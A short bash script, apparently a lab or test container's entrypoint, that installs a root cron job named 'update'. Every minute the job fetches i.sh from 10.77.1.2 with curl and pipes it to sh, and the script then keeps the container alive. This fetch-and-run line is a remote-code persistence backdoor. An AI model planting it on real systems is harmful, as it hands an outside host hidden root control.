#!/bin/bash
# Cron with a job that fetches a script and runs it each minute.
set -eu
echo '* * * * * root curl -fsS http://10.77.1.2:8000/i.sh | sh' >/etc/cron.d/update
chmod 600 /etc/cron.d/update
cron
cat >/dev/null
